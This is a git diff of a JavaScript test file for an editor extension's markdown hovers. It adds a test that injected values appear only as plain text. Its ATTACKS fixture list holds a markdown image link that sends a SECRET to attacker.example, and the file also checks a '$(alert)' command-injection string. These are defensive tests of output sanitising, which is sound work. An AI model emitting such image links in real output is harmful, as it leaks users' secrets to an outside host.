@@ -14,7 +14,7 @@ import { diffSides } from '../../src/core/diff/diff.js';
 import { diffMarkdown } from '../../src/core/diff/format.js';
 import { analyzeText } from '../../src/core/engine.js';
 import { mdCode, mdText, notificationText, plainLabel } from '../../src/core/markdown.js';
-import { editUsageLink, hoverMarkdown, reportMarkdown } from '../../src/core/present/cost.js';
+import { editUsageLink, hoverMarkdown, reportMarkdown, valueFromHoverLine } from '../../src/core/present/cost.js';
 
 const ATTACKS = [
   '![x](https://attacker.example/?k=SECRET)',
@@ -122,6 +122,13 @@ describe('hovers', () => {
     const text = expectNothingFromTheFile(markdown, [link]);
     for (const attack of ATTACKS.slice(0, 3)) expect(text).toContain(attack);
     expect(text).toContain('$(alert)');
+  });
+
+  test('the line that says where a value comes from (a variable, a parameter, a file value) shows it as text', () => {
+    for (const via of [PAYLOAD, BREAKOUT]) {
+      const text = expectNothingFromTheFile(valueFromHoverLine(via) + hoverMarkdown('memory', e, prices, { editUsage: link, limits }), [link]);
+      expect(text).toContain(`Value from ${via.replace(/\n/g, ' ')}`);
+    }
   });
 
   test('every hover field', () => {
